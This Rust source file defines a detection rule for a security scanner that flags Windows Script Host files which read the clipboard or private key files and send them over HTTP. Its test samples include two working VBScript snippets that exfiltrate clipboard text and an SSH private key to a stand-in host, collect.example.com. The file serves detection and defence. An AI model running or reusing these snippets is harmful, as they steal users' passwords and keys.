//! `theft-script-host`: scripts of the Windows script host that take and send.

use crate::finding::{Confidence, Severity};
use crate::scan::rule::{Check, Reporter, Rule, Sample, TextFile};
use crate::scan::sensitive;
use crate::skill::path;
use crate::text::Span;

/// The rule.
pub static RULE: Rule = Rule {
    id: "theft-script-host",
    title: "A script of the Windows script host takes what is private and sends it",
    severity: Severity::Error,
    confidence: Confidence::Medium,
    why: "Such scripts run without a window; the clipboard and files of keys hold passwords.",
    fix: "Remove the script.",
    references: &["CWE-200", "ATT&CK T1115", "ATT&CK T1059.005"],
    hits: &[
        Sample::File(
            "a.vbs",
            "t = CreateObject(\"htmlfile\").ParentWindow.ClipboardData.GetData(\"text\")\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"POST\", \"http://collect.example.com/c\", False\nx.Send t\n",
        ),
        Sample::File(
            "a.wsf",
            "<script language=\"VBScript\">\nk = fso.OpenTextFile(home & \"/Users/me/.ssh/id_rsa\").ReadAll\nSet x = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nx.Open \"POST\", \"https://collect.example.com\", False\nx.Send k\n</script>\n",
        ),
    ],
    misses: &[
        Sample::File(
            "a.vbs",
            "Set x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"https://api.example.com\", False\nx.Send\n",
        ),
        Sample::File(
            "a.vbs",
            "t = CreateObject(\"htmlfile\").ParentWindow.ClipboardData.GetData(\"text\")\nWScript.Echo Len(t)\n",
        ),
    ],
    check: Check::Text {
        anchors: &["XMLHTTP", "xmlhttp", "XmlHttp", "WinHttpRequest"],
        check,
    },
};

fn check(file: &TextFile<'_>, reporter: &mut Reporter<'_>) {
    let suffix = path::suffix(file.path);
    if !matches!(
        suffix.as_str(),
        "vbs" | "vbe" | "wsf" | "hta" | "vba" | "bas"
    ) {
        return;
    }
    let small = file.text.to_ascii_lowercase();
    let sends = small.lines().any(|line| {
        let call = line.split_once(".send").map(|(_, rest)| rest.trim());
        call.is_some_and(|given| {
            let given = given.trim_matches(['(', ')', '"', ' ']);
            !given.is_empty() && !given.starts_with('\'')
        })
    });
    let taken = small
        .find("clipboarddata")
        .map(|at| Span::new(at, at + "clipboarddata".len()))
        .or_else(|| sensitive::first(file.text));
    if let Some(span) = taken.filter(|_| sends) {
        reporter.raise(span);
    }
}
